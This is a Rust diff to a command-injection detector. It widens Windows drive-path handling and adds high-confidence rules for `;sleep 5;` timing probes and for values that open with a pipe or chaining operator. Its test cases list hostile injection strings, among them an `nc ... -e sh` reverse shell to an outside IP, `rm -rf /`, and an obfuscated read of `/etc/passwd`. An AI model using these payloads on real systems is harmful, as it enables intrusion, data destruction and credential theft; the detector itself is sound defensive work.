@@ -459,9 +459,10 @@ fn read_args(s: &[u8], mut i: usize, out: &mut Args) -> usize {
                         out.flag = true;
                     }
                 } else if w.len() > 2 && w[0].is_ascii_alphabetic() && w[1] == b':' && (w[2] == b'\\' || w[2].is_ascii_alphabetic()) {
-                    // `c:\windows`, or `c:windows` once backslashes were undone.
+                    // `c:\windows`, `c:\` (a drive's root), or `c:windows`
+                    // once backslashes were undone.
                     out.path = true;
-                    out.syspath |= w.len() > 3;
+                    out.syspath |= w.len() > 3 || w[2] == b'\\';
                 } else if program(w).is_some_and(|(_, english)| !english) {
                     out.other_program = true;
                 }
@@ -945,7 +946,12 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
         // separator that opens the value, given a flag.
         let opened = start > 0 && s[..start].iter().all(|&b| matches!(b, b';' | b'|' | b'&' | b' ' | b'\n'));
         let english_shaped = english && (args.syspath || args.flag && (args.path || args.redirect || args.var || opened));
-        let conf = if prefixed && (!english || strong_args) || program_shaped || english_shaped || obfuscated && args.words > 0 {
+        // `;sleep 5;`: the time-based probe after a separator.
+        let timed = name == "sleep" && !at_value_start && args.words == 1 && rest.first().is_some_and(u8::is_ascii_digit);
+        // `| id`, `&& whoami`: the value opens with a pipe or a chaining
+        // operator (not `&` alone, as in "& more") and a command.
+        let piped = english && start > 0 && (s.starts_with(b"|") || s.starts_with(b"&&") || s.starts_with(b";")) && args.words == 0;
+        let conf = if prefixed && (!english || strong_args) || program_shaped || english_shaped || obfuscated && args.words > 0 || timed || piped {
             High
         } else if !english && !at_value_start && name.len() > 2 {
             // `; ansible-config dump`, `| visudo`: a program after a separator.
@@ -1114,6 +1120,9 @@ mod tests {
             "ifconfig;. rm -rf /;",
             "cat /[?]tc/pa[?]swd",
             ";\n.shell nc 10.10.10.1 6666 -e sh",
+            "| id",
+            ";sleep 5;",
+            "& dir c:\\",
         ] {
             assert_eq!(conf(a), Some(High), "{a}");
         }
